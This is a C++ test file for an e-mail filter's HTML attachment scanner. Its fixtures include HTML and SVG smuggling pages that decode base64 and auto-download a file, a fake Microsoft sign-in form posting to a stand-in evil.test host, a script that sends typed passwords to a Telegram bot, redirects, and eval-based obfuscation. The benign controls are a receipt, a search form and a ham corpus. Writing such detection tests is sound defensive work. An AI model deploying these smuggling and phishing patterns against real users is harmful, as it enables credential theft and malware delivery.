// HTML attachments: smuggling pages, a fake login page, redirects and obfuscated
// script written after real samples; a receipt that must stay quiet; and every
// HTML part of the ham corpus, which must not look like smuggling.
#include "attach/html_attach.hpp"

#include <catch2/catch.hpp>

#include <fmt/format.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "mime/analysis.hpp"

using namespace postern;
using attach::scan_html_attachment;

namespace {

std::set<std::string> html_symbols(const std::vector<attach::Hit>& hits) {
  std::set<std::string> out;
  for (const auto& h : hits) out.insert(h.symbol);
  return out;
}

// Base64 text of a given length (a fake ZIP: "UEsDB" is "PK\3\4").
std::string b64(size_t n) {
  std::string s = "UEsDBBQAAAAIA";
  const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  for (size_t i = 0; s.size() < n; ++i) s.push_back(a[(i * 7 + i / 3) % 64]);
  return s;
}

// A JavaScript array of `n` short string literals.
std::string string_array(size_t n) {
  std::string s = "[";
  for (size_t i = 0; i < n; ++i)
    s += (i ? "," : "") + std::string("\"") + b64(12).substr(i % 5) + "\"";
  return s + "]";
}

struct HtmlRow {
  std::string name;
  std::string html;
  std::set<std::string> want;  // exactly these
  std::string detail = "";     // the first hit's detail contains this
};

}  // namespace

TEST_CASE("HTML attachments: smuggling, credential forms, redirects, obfuscation") {
  const std::vector<HtmlRow> rows = {
      {"a QakBot-style page that builds a ZIP from base64 and clicks a download link",
       "<html><head><title>Invoice</title></head><body><p>Your document is downloading. "
       "Password: abc123</p><script>var d = \"" +
           b64(20000) +
           "\";\n"
           "var bin = atob(d); var u = new Uint8Array(bin.length);\n"
           "for (var i = 0; i < bin.length; i++) u[i] = bin.charCodeAt(i);\n"
           "var blob = new Blob([u], {type: 'application/zip'});\n"
           "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
           "a.download = 'Invoice_0042.zip'; document.body.appendChild(a); a.click();</script>"
           "</body></html>",
       {"ATTACH_HTML_SMUGGLING"},
       "base64 blob"},
      {"an IE-era page with a string array and msSaveOrOpenBlob",
       "<html><body><script>var parts = " + string_array(400) +
           ";\nvar blob = new Blob([parts.join('')], {type: 'application/octet-stream'});\n"
           "if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "
           "'scan.iso'); }</script></body></html>",
       {"ATTACH_HTML_SMUGGLING"},
       "msSaveOrOpenBlob"},
      {"an anchor with a data: ZIP and a download attribute, no script at all",
       "<html><body><a href=\"data:application/zip;base64," + b64(300) +
           "\" download=\"statement.zip\">Download your statement</a></body></html>",
       {"ATTACH_HTML_SMUGGLING"},
       "application/zip"},
      {"an SVG that smuggles",
       "<svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\"><![CDATA[\n"
       "var b = new Blob([Uint8Array.from(atob(\"" +
           b64(9000) +
           "\"), c => c.charCodeAt(0))]);\nvar a = document.createElementNS('http://www.w3.org/"
           "1999/xhtml', 'a'); a.href = URL.createObjectURL(b); a.download = 'doc.img'; "
           "a.click();\n]]></script></svg>",
       {"ATTACH_HTML_SMUGGLING"}},
      {"a fake Microsoft sign-in page",
       "<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>"
       "<div class=\"logo\">Microsoft</div><h1>Sign in</h1><form method=\"post\" "
       "action=\"https://login-microsoftonline.evil.test/next.php\"><input type=\"email\" "
       "name=\"login\" value=\"bob@example.com\"><input type=\"password\" name=\"passwd\" "
       "placeholder=\"Password\"><button>Sign in</button></form></body></html>",
       {"ATTACH_HTML_FORM"},
       "password"},
      {"a form that posts an e-mail field to the web",
       "<html><body><p>Your mailbox is full. Confirm your address to keep receiving mail.</p>"
       "<form action=\"https://mail-quota.evil.test/ok\"><input type=\"email\" name=\"email\">"
       "<input type=\"submit\" value=\"Confirm\"></form></body></html>",
       {"ATTACH_HTML_FORM"},
       "login field"},
      {"a search form posting to the web is not a credential form",
       "<html><body><p>Find more recipes on our site.</p><form action=\"https://recipes.example"
       ".com/search\"><input type=\"text\" name=\"q\"><input type=\"submit\" value=\"Search\">"
       "</form></body></html>",
       {}},
      {"a page whose script posts the password to a bot",
       "<html><body><input id=\"e\"><input id=\"p\" type=\"text\"><button onclick=\"go()\">Next"
       "</button><script>function go(){ fetch('https://api.telegram.org/bot123:AA/sendMessage', "
       "{method: 'POST', body: 'chat_id=1&text=' + e.value + ' pass:' + p.value}); }</script>"
       "</body></html>",
       {"ATTACH_HTML_FORM"},
       "script sends"},
      {"a meta refresh to a web page and nothing else",
       "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://evil.test/o365/"
       "\"></head><body>Loading...</body></html>",
       {"ATTACH_HTML_REDIRECT"},
       "https://evil.test/o365/"},
      {"a script location change",
       "<html><body><script>window.location.href = 'https://evil.test/a?e=bob@example.com';"
       "</script></body></html>",
       {"ATTACH_HTML_REDIRECT"}},
      {"an SVG that evals decoded script",
       "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><script>eval(atob('"
       "d2luZG93LmxvY2F0aW9uPSJodHRwczovL2V2aWwudGVzdCI='))</script></svg>",
       {"ATTACH_HTML_SCRIPT_OBFUSCATED"},
       "eval"},
      {"document.write of unescaped text",
       "<html><body><script>document.write(unescape('%3C%66%6F%72%6D%20%61%63%74%69%6F%6E'))"
       "</script></body></html>",
       {"ATTACH_HTML_SCRIPT_OBFUSCATED"}},
      {"a long run of hex escapes",
       [] {
         std::string s = "<html><body><script>var x = \"";
         for (int i = 0; i < 300; ++i) s += "\\x41";
         return s + "\";</script></body></html>";
       }(),
       {"ATTACH_HTML_SCRIPT_OBFUSCATED"},
       "escapes"},
      {"a receipt with an inline logo, a link and a table stays quiet",
       "<html><head><style>td{padding:4px}</style></head><body><img alt=\"Shop\" "
       "src=\"data:image/png;base64," +
           b64(12000) +
           "\"><h2>Thank you for your order</h2><table><tr><td>Coffee beans 1 kg</td><td>18.90"
           "</td></tr><tr><td>Shipping</td><td>4.90</td></tr><tr><td>Total</td><td>23.80</td>"
           "</tr></table><p>Your order 10442 ships within two business days. Questions? Write "
           "to us or visit <a href=\"https://shop.example.com/orders/10442\">your order page"
           "</a> or <a href=\"https://shop.example.com/orders/10442/invoice.pdf\" "
           "download=\"invoice-10442.pdf\">download the invoice</a>.</p><p>Shop Example GmbH, "
           "Hauptstrasse 1, 10115 Berlin</p></body></html>",
       {}},
  };
  for (const auto& r : rows) {
    INFO(r.name);
    const auto hits = scan_html_attachment(r.html);
    CHECK(html_symbols(hits) == r.want);
    if (!r.detail.empty() && !hits.empty())
      CHECK_THAT(hits.front().detail, Catch::Contains(r.detail));
  }
}

TEST_CASE("an HTML attachment beyond the input bound is a limit hit") {
  attach::HtmlAttachLimits lim;
  lim.max_input = 1000;
  const auto hits =
      scan_html_attachment("<html><body>" + std::string(5000, 'x') + "</body></html>", lim);
  CHECK(html_symbols(hits) == std::set<std::string>{"ATTACH_HTML_LIMIT"});
}

TEST_CASE("a spent CPU budget stops an HTML attachment scan") {
  std::string big = "<html><body>";
  for (int i = 0; i < 200000; ++i) big += "<p class=\"x\">word <b>bold</b> <a href=\"#\">l</a></p>";
  core::CpuBudget budget(std::chrono::milliseconds(1));
  const auto hits = scan_html_attachment(big, {}, &budget);
  CHECK(html_symbols(hits) == std::set<std::string>{"ATTACH_HTML_LIMIT"});
}

TEST_CASE("no HTML part of the ham corpus looks like smuggling", "[all-mail]") {
  const std::filesystem::path ham = std::filesystem::path(POSTERN_CORPUS_DIR) / "ham";
  if (!std::filesystem::exists(ham)) {
    WARN("no corpus at " << ham);
    return;
  }
  size_t messages = 0, html_parts = 0, attachments = 0, bytes = 0;
  std::map<std::string, size_t> fired, fired_attach;
  std::vector<std::string> smuggling;
  double ms = 0;
  for (const auto& e : std::filesystem::recursive_directory_iterator(ham)) {
    if (!e.is_regular_file()) continue;
    std::ifstream f(e.path(), std::ios::binary);
    const std::string raw{std::istreambuf_iterator<char>(f), std::istreambuf_iterator<char>()};
    ++messages;
    const auto a = mime::analyze(raw);
    for (const auto& leaf : a.leaves) {
      if (!leaf.part || leaf.part->content_type != "text/html") continue;
      const bool attached = leaf.part->disposition == "attachment" || !leaf.part->filename.empty();
      ++html_parts;
      attachments += attached;
      bytes += leaf.html.size();
      const auto t0 = std::chrono::steady_clock::now();
      const auto hits = scan_html_attachment(leaf.html);
      ms +=
          std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
      for (const auto& h : hits) {
        ++fired[h.symbol];
        if (attached) ++fired_attach[h.symbol];
        if (h.symbol == "ATTACH_HTML_SMUGGLING")
          smuggling.push_back(e.path().filename().string() + ": " + h.detail);
      }
    }
  }
  std::string summary;
  for (const auto& [s, n] : fired)
    summary += fmt::format(" {}={} (attached {})", s, n, fired_attach[s]);
  WARN(messages << " ham messages, " << html_parts << " HTML parts (" << attachments
                << " attached), " << bytes << " bytes in " << ms << " ms; fired:" << summary);
  CHECK(messages > 1000);
  CHECK(smuggling.empty());
  CHECK(fired["ATTACH_HTML_FORM"] <= html_parts / 100);  // bodies, not attachments: < 1 %
  for (const auto& s : smuggling) WARN(s);
}
